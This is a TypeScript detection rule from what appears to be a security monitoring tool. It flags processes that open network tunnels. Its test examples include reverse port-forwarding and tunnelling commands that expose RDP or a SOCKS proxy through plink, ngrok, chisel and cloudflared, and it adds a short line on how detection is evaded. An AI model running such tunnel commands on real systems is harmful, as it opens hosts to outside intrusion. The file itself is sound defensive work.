import { TUNNEL_PROGRAMS } from '../facts/remote-control.data';
import type { Payload } from '../payload/payload';
import { defineJudgement, techniques } from './judgement';
import { byProgram, distinct } from './payload-evidence';

/** A way into the host, or out of it, inside of another connection. */
export const tunnel = defineJudgement<Payload>({
  id: 'tunnel',
  part: 'consumer',
  field: 'Destination',
  weight: 'high',
  techniques: techniques('T1572'),
  summary: 'The payload opens a tunnel, through which others reach the host or what is behind it.',
  howWrong: 'Administrators forward ports for support, and developers share what they work on.',
  evades: 'Uses a tool that is on no list, renames it, or forwards with a script.',
  examples: {
    fires: [
      'C:\\Tools\\plink.exe -N -R 3389:127.0.0.1:3389 u@192.0.2.7',
      'ngrok.exe tcp 3389',
      'cmd /c C:\\Tools\\chisel.exe client 192.0.2.7:443 R:socks',
      'C:\\Tools\\cloudflared.exe tunnel run --token x',
    ],
    silent: [
      'C:\\Tools\\plink.exe -batch backup@host.corp.example df',
      'C:\\Tools\\ssh.exe -V',
      'C:\\Tools\\ngrok-monitor.exe',
    ],
  },
  judge: (payload) => distinct(payload, byProgram(payload, TUNNEL_PROGRAMS)),
});
